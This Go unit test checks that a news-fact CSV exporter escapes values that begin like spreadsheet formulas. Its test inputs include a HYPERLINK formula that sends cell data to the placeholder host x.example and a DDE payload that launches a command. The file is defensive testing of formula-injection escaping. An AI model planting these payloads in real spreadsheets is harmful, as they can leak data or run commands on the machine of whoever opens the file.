package extract

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"chiso/extract/facts"
)

// A title, quote or file name that starts like a formula is written as text
// (with an apostrophe in front); the value column stays a number. Read back
// with encoding/csv, as a spreadsheet would split it.
func TestWriteCSVSpreadsheetSafe(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://x.example/?"&A1,"Xem thêm")`, `'=HYPERLINK("http://x.example/?"&A1,"Xem thêm")`},
		{"+84 912 345 678 đường dây nóng", "'+84 912 345 678 đường dây nóng"},
		{"- Kim ngạch xuất khẩu đạt 5 tỷ USD", "'- Kim ngạch xuất khẩu đạt 5 tỷ USD"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'=1+1"}, // encoding/csv drops a lone CR when it writes CRLF lines
		{"Kim ngạch xuất khẩu tăng 5%", "Kim ngạch xuất khẩu tăng 5%"},
		{"'=1+1", "'=1+1"}, // already text: left as is
		{"", ""},
	} {
		t.Run(c.in, func(t *testing.T) {
			title, period := c.in, "2024-01"
			a := Article{File: c.in, ID: "af5f2f43dfdc58c8", Title: &title, Facts: []facts.Fact{{
				Indicator: "exports", Sector: "all", Region: facts.Nation, Period: &period, Kind: "change",
				Value: -3.2, Unit: "%", Quote: c.in,
			}}}
			var b bytes.Buffer
			if err := WriteCSV(&b, []Article{a}); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != 2 {
				t.Fatalf("got %d rows; want header and one fact", len(rows))
			}
			row := map[string]string{}
			for k, name := range rows[0] {
				row[name] = rows[1][k]
			}
			for _, col := range []string{"file", "title", "quote"} {
				if got := row[col]; got != c.want {
					t.Errorf("%s: got %q; want %q", col, got, c.want)
				}
			}
			if row["value"] != "-3.2" || row["estimate"] != "false" || row["period"] != "2024-01" {
				t.Errorf("value %q, estimate %q, period %q: want -3.2, false, 2024-01", row["value"], row["estimate"], row["period"])
			}
		})
	}
}
